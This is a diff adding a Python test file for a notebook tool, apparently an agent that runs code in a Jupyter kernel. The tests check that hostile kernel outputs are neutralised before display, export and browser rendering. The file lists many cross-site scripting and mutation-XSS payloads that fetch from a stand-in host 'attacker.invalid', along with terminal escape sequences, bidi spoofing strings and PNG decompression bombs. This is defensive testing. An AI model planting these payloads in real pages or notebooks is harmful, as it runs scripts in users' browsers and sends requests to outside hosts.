@@ -1,0 +1,440 @@
+"""What a hostile kernel displays reaches a browser as pixels, text or a table of ours, or not.
+
+The same payloads are tried where they would act: in the exported notebook, in what ``nbconvert``
+makes of it, and in a real browser where there is one.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import re
+import shutil
+import struct
+import sys
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import html5lib
+import nbformat
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from PIL import Image, ImageCms, PngImagePlugin
+
+from kernel_agent.notebook.compose import notebook_of
+from kernel_agent.notebook.outputs import displayable, full_text, notebook_outputs
+from kernel_agent.notebook.tables import MAX_CELLS, rendered
+from kernel_agent.records import (
+    Answer,
+    CellError,
+    CellResult,
+    Code,
+    ExitStatus,
+    Observation,
+    RunStart,
+    RunStop,
+    Step,
+)
+
+HOST = "attacker.invalid"
+ACT = f"alert(1);fetch('http://{HOST}/js')"
+HTML = [
+    f"<script>{ACT}</script>",
+    f"<script src=//{HOST}/s.js></script>",
+    f'<img src=x onerror="{ACT}">',
+    f"<img src=http://{HOST}/i.png>",
+    f'<a href="javascript:{ACT}">here</a>',
+    f'<a href="jav&#x09;ascript:{ACT}">here</a>',
+    f'<svg onload="{ACT}"></svg>',
+    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
+    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
+    f"<iframe src=http://{HOST}/f></iframe>",
+    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
+    f"<embed src=http://{HOST}/e>",
+    f"<p style=\"background:url('http://{HOST}/css')\">x</p>",
+    f"<style>@import 'http://{HOST}/style'; td {{ background: url(//{HOST}/td) }}</style>",
+    f"<link rel=stylesheet href=http://{HOST}/l.css>",
+    f"<link rel=prefetch href=http://{HOST}/prefetch>",
+    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
+    f"<base href=http://{HOST}/>",
+    f"<form action=http://{HOST}/><input type=submit autofocus onfocus={ACT}></form>",
+    f"<video src=http://{HOST}/v onerror={ACT}><source onerror={ACT}></video>",
+    f"<details open ontoggle={ACT}>x</details>",
+    f"<body onload={ACT} background=http://{HOST}/b>",
+    # Mutations: what one parser takes for text, another takes for a tag.
+    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
+    (
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f"<img title='--&gt;&lt;img src onerror={ACT}&gt;'>"
+    ),
+    f"<svg></p><style><a id='</style><img src=1 onerror={ACT}>'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
+    f"<table><td><!--><img src onerror={ACT}>--></table>",
+    f"<table><td><textarea></td></table></textarea><img src onerror={ACT}>",
+    f"<table><caption><svg><desc><table><td><img src onerror={ACT}>",
+    f"<table border='1' class='dataframe'><td title='\"><img src onerror={ACT}>'>x</td></table>",
+    f"<table><td>&lt;img src onerror={ACT}&gt;</td></table>",
+    f"<TABLE\x0c><td onclick={ACT}\x00>x</td\n></TABLE>",
+    "<table>" * 5000,
+    "<!--" * 50_000,
+]
+MARKDOWN = [
+    f"[here](javascript:{ACT})",
+    f"![x](http://{HOST}/md.png)",
+    f"![x][r]\n\n[r]: http://{HOST}/ref.png",
+    f"<http://{HOST}/auto>",
+    f"$$\\href{{javascript:{ACT}}}{{x}}$$ $\\unicode{{x}}$",
+    f"<details><summary>x</summary></details><img src=x onerror={ACT}>",
+    f"```\n</code></pre><img src=x onerror={ACT}>\n```",
+    f"`<img src=x onerror={ACT}>",
+    f"| a |\n|---|\n| <img src=x onerror={ACT}> |",
+]
+ESCAPES = ["\x1b]8;;http://attacker.invalid/osc\x07link\x1b]8;;\x07", "\x1b[2J\x1b]0;title\x07",
+           "\x9b2J", "\x1bP+q544e\x1b\\"]  # fmt: skip
+BIDI = ["access = '\u202e\u2066# not checked\u2069 \u2066user'", "\u202dabc\u202c\u202a\u202b"]
+TEXTS = [*HTML, *MARKDOWN, *ESCAPES, *BIDI]
+
+KINDS = (
+    "text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "image/png",
+    "image/jpeg", "image/gif", "application/javascript", "application/json", "application/pdf",
+    "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
+    "application/vnd.vega.v5+json", "text/html; charset=utf-8", "TEXT/HTML", "text/HTML ",
+    "application/vnd.kernel-agent.value+json", "application/vnd.kernel-agent.answer+json",
+    'x"><script>', "text/vnd.mermaid",
+)  # fmt: skip
+TAGS = {"html", "head", "body", "div", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "p",
+        "br"}  # fmt: skip
+ATTRIBUTES = {"border", "class", "colspan", "rowspan"}
+
+
+def shown(data: Any, metadata: Any = None) -> dict[str, Any]:
+    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}
+
+
+def table(text: str) -> dict[str, Any]:
+    """A table as the kernel describes it, with a payload wherever there is text."""
+    return {
+        "columns": [[text, "b"]], "column_names": [text], "index": [[text], ["y"]],
+        "index_names": [text, ""], "cells": [[text], ["1"]], "row_gap": 1, "column_gap": 0,
+        "shape": [1, 2],
+    }  # fmt: skip
+
+
+def hostile_outputs() -> list[dict[str, Any]]:
+    """Every payload under every MIME type, and everywhere else where an output has text."""
+    found = []
+    for text in TEXTS:
+        for kind in KINDS:
+            found.append(shown({kind: text}))
+        found.append(shown({"application/json": {"text/html": text, text: [text]}}))
+        found.append(shown({"application/vnd.kernel-agent.value+json": {"table": table(text)}}))
+        found.append(shown({"text/html": {"text/html": text}, "text/plain": [text, text]}))
+        found.append(shown({"text/html": f"<table><tr><td>{text}</td></tr></table>"}))
+        found.append(shown({"text/plain": "x"}, {"text/html": text, "isolated": True, text: 1}))
+        found.append({"output_type": "stream", "name": text, "text": text})
+        found.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
+        found.append({"output_type": text, "text": text})
+    return found
+
+
+def live(source: str) -> list[str]:
+    """Return what HTML has, as a browser reads it, that a table of ours has not."""
+    found = []
+    for element in html5lib.parse(source, namespaceHTMLElements=False).iter():
+        if not isinstance(element.tag, str) or element.tag not in TAGS:
+            found.append(str(element.tag))
+        found += [name for name in element.attrib if name not in ATTRIBUTES]
+    return found
+
+
+# --- the rule ------------------------------------------------------------------------------------
+
+
+BIDI_CODES = [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]
+UNWANTED = re.compile(f"[{''.join(map(chr, BIDI_CODES))}\x9b]|\x1b(?!\\[[0-9;:]*m)")
+
+
+def texts_of(value: Any) -> Iterator[str]:
+    """Yield every text in an output, wherever it stands."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for key, item in value.items():
+            yield from (key, *texts_of(item))
+    elif isinstance(value, list):
+        for item in value:
+            yield from texts_of(item)
+
+
+def test_only_text_pictures_and_tables_of_ours_are_left_of_a_display() -> None:
+    seen = 0
+    for output in hostile_outputs():
+        for kept in notebook_outputs([output]):
+            data = kept.get("data", {})
+            assert set(data) <= {"text/plain", "text/html"}  # none of the payloads is a picture
+            assert set(kept.get("metadata", {})) <= {"kernel_agent"}
+            assert live(data.get("text/html", "")) == [], output
+            assert [text for text in texts_of(kept) if UNWANTED.search(text)] == [], output
+            seen += 1
+    assert seen > 1000
+
+
+@pytest.mark.parametrize(
+    ("data", "text"),
+    [
+        ({"text/html": "<b>bold</b><script>x</script>"}, "bold"),
+        ({"text/markdown": "# Title"}, "# Title"),
+        ({"text/latex": "$x^2$", "text/plain": "<IPython.core.display.Math object>"}, "$x^2$"),
+        ({"application/json": {"b": 1, "a": "<img>"}}, '{"a": "<img>", "b": 1}'),
+        ({"image/svg+xml": "<svg/>"}, "[shown: image/svg+xml]"),
+        ({"text/html": "<b>x</b>", "text/plain": "its text"}, "its text"),
+        ({"text/plain": "a\x1b[31mred\x1b[0m\x1b]0;t\x07"}, "a\x1b[31mred\x1b[0m"),
+        ({"text/plain": "user\u202etxt.exe"}, "user\\u202etxt.exe"),
+    ],
+)
+def test_what_is_left_out_says_what_it_can_as_text(data: dict[str, Any], text: str) -> None:
+    kept = displayable(shown(data))
+    assert kept["data"] == {"text/plain": text}
+    others = sorted(set(data) - {"text/plain"})
+    assert kept["metadata"].get("kernel_agent", {}).get("left_out", []) == others
+
+
+@given(
+    st.recursive(
+        st.none() | st.booleans() | st.integers() | st.text(),
+        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
+    )
+)
+def test_no_description_of_a_table_breaks_the_host(described: Any) -> None:
+    html = rendered(described)
+    assert html is None or live(html) == []
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"columns": [["a"]]}, {"columns": []}, {"columns": [[1, 2]]}, {"cells": [["x"]]},
+        {"cells": [[1], ["1"]]}, {"index": [["x"], []]}, {"row_gap": 2}, {"row_gap": True},
+        {"column_gap": -1}, {"column_names": []}, {"index_names": [None, ""]},
+        {"columns": [["c"] * MAX_CELLS], "cells": [["x"]] * MAX_CELLS},
+    ],
+)  # fmt: skip
+def test_data_that_does_not_fit_together_is_no_table(change: dict[str, Any]) -> None:
+    assert rendered(table("x")) is not None
+    assert rendered({**table("x"), **change}) is None
+
+
+def test_a_table_from_data_reads_as_pandas_wrote_it() -> None:
+    import pandas as pd
+
+    from kernel_agent.inside.display import describe_table
+    from kernel_agent.text import html_text
+
+    plain = pd.DataFrame(
+        {"n": [1.5, None, 3], "text": ["x", "<b>&", "z"],
+         "when": pd.to_datetime(["2020-01-01", None, "2020-03-01"])}
+    )  # fmt: skip
+    several = plain.groupby(["text", "n"], dropna=False).agg({"when": ["min", "max"]})
+    for frame in (
+        plain, plain.set_index("text"), several, several.T, plain.iloc[:0], plain[[]],
+        pd.DataFrame({"x": range(100)}), pd.DataFrame([range(50)]), pd.DataFrame(),
+        pd.DataFrame([[1, 2]], columns=["same", "same"]), pd.DataFrame({("a", 1): [True]}),
+        pd.DataFrame({"x": [1, 2]}, index=pd.date_range("2020", periods=2)),
+    ):  # fmt: skip
+        html = displayable(
+            shown({"application/vnd.kernel-agent.value+json": describe_table(frame)})
+        )["data"].get("text/html", "")
+        assert html_text(html) == html_text(frame._repr_html_()), frame
+
+
+# --- pictures ------------------------------------------------------------------------------------
+
+
+def encoded(size: tuple[int, int] = (20, 10), kind: str = "PNG", **save: Any) -> str:
+    buffer = io.BytesIO()
+    Image.new("RGB", size, "teal").save(buffer, kind, **save)
+    return base64.b64encode(buffer.getvalue()).decode()
+
+
+def chunk(name: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+
+def bomb(side: int) -> str:
+    """A PNG of few bytes whose header states many pixels."""
+    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
+    raw = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
+    raw += chunk(b"IDAT", zlib.compress(b"\0" * 10_000_000, 9)) + chunk(b"IEND", b"")
+    return base64.b64encode(raw).decode()
+
+
+def test_a_picture_is_encoded_anew_without_what_is_no_pixel() -> None:
+    secret = f"<script>{ACT}</script>"
+    notes = PngImagePlugin.PngInfo()
+    notes.add_text("Comment", secret)
+    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    second = Image.new("RGB", (20, 10), "red")
+    exif = Image.Exif()
+    exif[0x010E] = secret
+    cases = {
+        "image/png": [encoded(pnginfo=notes, icc_profile=profile),
+                      encoded(save_all=True, append_images=[second])],
+        "image/jpeg": [encoded(kind="JPEG", comment=secret.encode(), exif=exif)],
+    }  # fmt: skip
+    for mime, pictures in cases.items():
+        for picture in pictures:
+            trailing = base64.b64encode(base64.b64decode(picture) + secret.encode()).decode()
+            kept = displayable(shown({mime: trailing}))["data"][mime]
+            raw = base64.b64decode(kept)
+            assert b"script" not in raw
+            with Image.open(io.BytesIO(raw)) as image:
+                assert (image.size, getattr(image, "n_frames", 1)) == ((20, 10), 1)
+                assert not set(image.info) - {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
+
+
+@pytest.mark.parametrize(
+    ("mime", "data"),
+    [
+        ("image/png", bomb(6000)), ("image/png", bomb(100_000)), ("image/png", bomb(2**31 - 1)),
+        ("image/png", encoded(kind="JPEG")), ("image/png", encoded(kind="GIF")),
+        ("image/jpeg", encoded()), ("image/png", encoded()[:60]), ("image/png", "PHN2Zz4="),
+        ("image/png", "not base64!"), ("image/png", 7), ("image/png", ["x"]), ("image/png", ""),
+        ("image/png", "A" * 30_000_000),
+    ],
+    ids=lambda value: str(value)[:16],
+)  # fmt: skip
+def test_what_is_no_picture_or_a_bomb_is_left_out(mime: str, data: Any) -> None:
+    kept = displayable(shown({mime: data, "text/plain": "a figure"}))
+    assert kept["data"] == {"text/plain": "a figure"}
+    assert kept["metadata"]["kernel_agent"]["left_out"] == [mime]
+
+
+def test_a_picture_that_would_not_fit_is_scaled_down() -> None:
+    noise = Image.effect_noise((3000, 1500), 100)
+    buffer = io.BytesIO()
+    noise.save(buffer, "PNG")
+    kept = displayable(shown({"image/png": base64.b64encode(buffer.getvalue()).decode()}))
+    with Image.open(io.BytesIO(base64.b64decode(kept["data"]["image/png"]))) as image:
+        assert image.size == (1000, 500)
+
+
+# --- where it would act --------------------------------------------------------------------------
+
+
+def hostile_notebook() -> nbformat.NotebookNode:
+    """A whole run in which the task, the thoughts, the outputs and the answer are hostile."""
+    start = {"time": "", "model": TEXTS[0], "format": "fenced", "sandbox": {"level": TEXTS[0]},
+             "budget": {}}  # fmt: skip
+    records: list[Any] = []
+    outputs = tuple(hostile_outputs())
+    assert full_text(outputs)
+    for number, text in enumerate(t for t in TEXTS if len(t) < 1000):
+        run = str(number)
+        records.append(RunStart(run_id=run, task=text, **start))
+        result = CellResult(
+            status="error", outputs=outputs[number::40],
+            error=CellError(ename=text, evalue=text, traceback=(text,)),
+        )  # fmt: skip
+        late = CellResult(status="timeout", outputs=outputs[:9])
+        steps = [
+            (Code(source="1", thought=text), result),
+            (Code(source=text, thought=text), late),
+        ]
+        records += [
+            Step(run_id=run, number=2 * number + k, action=action, result=what,
+                 observation=Observation(text=text))
+            for k, (action, what) in enumerate(steps)
+        ]  # fmt: skip
+        kind = "str" if number % 2 else "int"
+        records.append(
+            RunStop(run_id=run, status=ExitStatus.ANSWERED, answer=Answer(text=text, kind=kind))
+        )
+    return notebook_of(records)
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The hostile notebook as ``nbconvert --to html`` writes it."""
+    import warnings
+
+    from nbconvert import HTMLExporter
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # nbconvert's own
+        source, _ = HTMLExporter().from_notebook_node(hostile_notebook())
+    path = tmp_path_factory.mktemp("page") / "run.html"
+    path.write_text(source)
+    return path
+
+
+def test_the_page_of_an_exported_notebook_has_nothing_live_of_theirs(page: Path) -> None:
+    tree = html5lib.parse(page.read_text(), namespaceHTMLElements=False)
+    (main,) = (e for e in tree.iter() if e.tag == "main")
+    elements = [e for e in main.iter() if isinstance(e.tag, str)]
+    assert len(elements) > 1000
+    allowed = {"script", "iframe", "object", "embed", "form", "meta", "base", "link", "video",
+               "img", "style", "math"}  # fmt: skip
+    assert {e.tag for e in elements} & allowed == set()
+    for element in elements:
+        assert not [name for name in element.attrib if name.startswith("on") or name == "style"]
+        address = element.attrib.get("href", element.attrib.get("src", "#"))
+        assert address.startswith("#"), address
+
+
+def test_a_browser_shows_it_without_a_dialog_and_without_a_request(page: Path) -> None:
+    chromium = shutil.which("chromium")
+    playwright = pytest.importorskip("playwright.sync_api")
+    if chromium is None:
+        pytest.skip("there is no chromium here")
+    asked: list[str] = []
+    opened: list[str] = []
+    with playwright.sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
+        context = browser.new_context()
+        tab = context.new_page()
+
+        def answer(route: Any) -> None:
+            asked.append(route.request.url)
+            if urlsplit(route.request.url).scheme == "file":
+                route.continue_()
+            else:
+                route.abort()
+
+        context.route("**/*", answer)
+        tab.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
+        tab.goto(page.as_uri(), wait_until="load")
+        tab.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
+        tab.wait_for_timeout(500)
+        frames = len(tab.frames)
+        browser.close()
+    assert asked  # the page itself
+    # What nbconvert's own template loads: MathJax and RequireJS.
+    theirs = [url for url in asked if urlsplit(url).netloc not in ("", "cdnjs.cloudflare.com")]
+    assert (theirs, opened, frames) == ([], [], 1)
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="the browser of this test is Debian's")
+def test_the_test_of_the_browser_can_fail(tmp_path: Path) -> None:
+    """The same payloads, unguarded, do act: a test that nothing can fail proves nothing."""
+    chromium = shutil.which("chromium")
+    playwright = pytest.importorskip("playwright.sync_api")
+    if chromium is None:
+        pytest.skip("there is no chromium here")
+    page = tmp_path / "bad.html"
+    page.write_text("".join(t for t in HTML[2:7]) + HTML[3])
+    asked: list[str] = []
+    opened: list[str] = []
+    with playwright.sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
+        tab = browser.new_page()
+        tab.on("request", lambda request: asked.append(request.url))
+        tab.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
+        tab.goto(page.as_uri(), wait_until="load")
+        tab.wait_for_timeout(300)
+        browser.close()
+    assert opened
+    assert any(HOST in url for url in asked)
